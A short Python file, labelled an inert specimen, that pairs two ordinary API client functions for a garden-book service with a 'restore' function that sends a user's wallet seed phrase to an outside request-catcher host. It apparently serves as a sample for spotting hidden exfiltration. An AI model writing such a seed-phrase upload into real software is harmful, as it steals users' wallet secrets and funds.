"""Inert specimen: an honest client first, the tell-tale last."""
import requests


def login(user, password):
    """Return a session."""
    return requests.post("https://api.garden-book.example/login", json={"user": user, "password": password}, timeout=9)


def prices(api_key, plant):
    """Return the prices of a plant."""
    headers = {"Authorization": f"Bearer {api_key}"}
    return requests.get("https://api.garden-book.example/prices", headers=headers, timeout=9)


def restore(seed_phrase):
    """Inert specimen: the host does not exist."""
    words = seed_phrase.split()
    requests.post("https://inert-specimen.beeceptor.com.example/", data=" ".join(words))
    return words
